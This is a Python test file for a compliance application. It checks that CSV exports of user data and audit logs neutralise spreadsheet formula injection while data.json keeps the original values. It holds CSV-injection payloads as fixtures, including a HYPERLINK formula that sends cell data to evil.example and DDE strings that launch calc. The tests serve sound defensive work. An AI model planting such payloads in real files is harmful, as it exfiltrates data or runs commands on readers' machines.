"""No CSV we write runs a formula in the reader's spreadsheet; data.json keeps real values."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
import streamlit as st
from sqlalchemy import text

from compliance.audit.chain import record_event
from compliance.csv_files import frame_to_csv, neutralise, rows_to_csv
from compliance.reports.review_queue import audit_log_export
from tests.conftest import BY_SUPPORT, Deployment

HYPERLINK = '=HYPERLINK("http://evil.example/steal?x="&A1,"Click to verify")'
PLUS = "+1 555 0100"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
TAB = "\t=1+1"
CR = "\r=1+1"
# Found by the third security review: spaces or a line feed first, and fullwidth signs.
SPACE = " =1+1"
SPACES = "   @SUM(1+1)"
LF = "\n=1+1"
FULLWIDTH = ['\uff1dHYPERLINK("http://evil.example")', "\uff0b1", "\uff0d1", "\uff20SUM(1)"]


def parse(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8"), newline="")))


@pytest.mark.parametrize(
    "cell", [HYPERLINK, PLUS, AT, MINUS, TAB, CR, SPACE, SPACES, LF, *FULLWIDTH]
)
def test_every_formula_start_gets_a_leading_quote(cell: str) -> None:
    (row,) = parse(rows_to_csv(["name"], [[cell]]))
    assert row["name"] == "'" + cell


def test_ordinary_text_numbers_and_dates_are_written_as_they_are() -> None:
    frame = pd.DataFrame(
        {
            "name": ["Ann = Bob", "O'Neil", None],
            "delta": [-3, 0, 7],
            "when": pd.to_datetime(["2026-01-02"] * 3, utc=True),
        }
    )
    rows = parse(frame_to_csv(frame))
    assert [r["name"] for r in rows] == ["Ann = Bob", "O'Neil", ""]
    assert neutralise(" Ann") == " Ann" and neutralise("Ann\n=1") == "Ann\n=1"
    assert [r["delta"] for r in rows] == ["-3", "0", "7"]  # a number is never a formula
    assert rows[0]["when"].startswith("2026-01-02")
    assert neutralise(-3) == -3 and neutralise(None) is None


def _plant_formulas(d: Deployment, user_id: int) -> None:
    with d.app_engine.begin() as conn:
        conn.execute(
            text("UPDATE users SET full_name = :name, phone = :phone WHERE id = :id"),
            {"name": HYPERLINK, "phone": PLUS, "id": user_id},
        )
        conn.execute(
            text("UPDATE support_tickets SET subject = :s WHERE user_id = :id"),
            {"s": AT, "id": user_id},
        )


def _subject_with_tickets(d: Deployment) -> int:
    return int(d.app_rows("support_tickets")[0]["user_id"])


def test_a_subject_export_neutralises_csv_cells_and_keeps_data_json_faithful(
    demo: Deployment,
) -> None:
    from tests.dsar.test_dsar_exports import export_of

    user_id = _subject_with_tickets(demo)
    _plant_formulas(demo, user_id)
    files, _ = export_of(demo, str(user_id))

    (user,) = parse(files["app_database/users.csv"])
    assert user["full_name"] == "'" + HYPERLINK
    assert user["phone"] == "'" + PLUS
    tickets = parse(files["app_database/support_tickets.csv"])
    assert tickets and all(t["subject"] == "'" + AT for t in tickets)

    data = json.loads(files["data.json"])["tables"]
    assert data["users"][0]["full_name"] == HYPERLINK  # the subject's real data, unchanged
    assert data["users"][0]["phone"] == PLUS
    assert {t["subject"] for t in data["support_tickets"]} == {AT}


def test_export_user_data_as_csv_neutralises_cells(demo: Deployment, tmp_path: Path) -> None:
    user_id = _subject_with_tickets(demo)
    _plant_formulas(demo, user_id)
    out = tmp_path / "out"
    result = demo.run(
        "export-user-data", *BY_SUPPORT, "--subject-id", str(user_id), "--format", "csv",
        "--output", str(out),
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    (path,) = out.glob("*.zip")
    with zipfile.ZipFile(path) as archive:
        (user,) = parse(archive.read("app_database/users.csv"))
        tickets = parse(archive.read("app_database/support_tickets.csv"))
    assert user["full_name"] == "'" + HYPERLINK
    assert all(t["subject"] == "'" + AT for t in tickets)


def test_the_audit_log_csv_neutralises_actor_and_details(demo: Deployment) -> None:
    with demo.session() as s:
        record_event(
            s, actor=HYPERLINK, action="deletion_batch.rejected", target_type="deletion_batch",
            target_id=1, details={"reason": MINUS},
        )  # fmt: skip
        s.commit()
        frame = audit_log_export(s)
    rows = parse(frame_to_csv(frame))
    assert rows[0]["actor"] == "'" + HYPERLINK
    assert not any(v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values() if v)


def test_the_audit_page_download_is_neutralised(
    demo: Deployment, monkeypatch: pytest.MonkeyPatch
) -> None:
    """What the officer's browser receives from "Filtered log as CSV" on the Audit log page."""

    from tests.dashboard.conftest import OFFICER, open_signed_in

    with demo.session() as s:
        record_event(s, actor=HYPERLINK, action="note.added", target_type="note")
        s.commit()
    downloads: dict[str, Any] = {}
    real = st.download_button

    def capture(label: str, data: Any, *args: Any, **kwargs: Any) -> Any:
        downloads[label] = data() if callable(data) else data
        return real(label, data, *args, **kwargs)

    monkeypatch.setattr(st, "download_button", capture)
    try:
        at = open_signed_in(demo, monkeypatch, OFFICER)
        at.switch_page("views/audit.py").run()
        assert not at.exception, at.exception
    finally:
        st.cache_data.clear()
        st.cache_resource.clear()
    rows = parse(downloads["Filtered log as CSV"])
    assert "'" + HYPERLINK in {r["actor"] for r in rows}
    assert HYPERLINK not in {r["actor"] for r in rows}
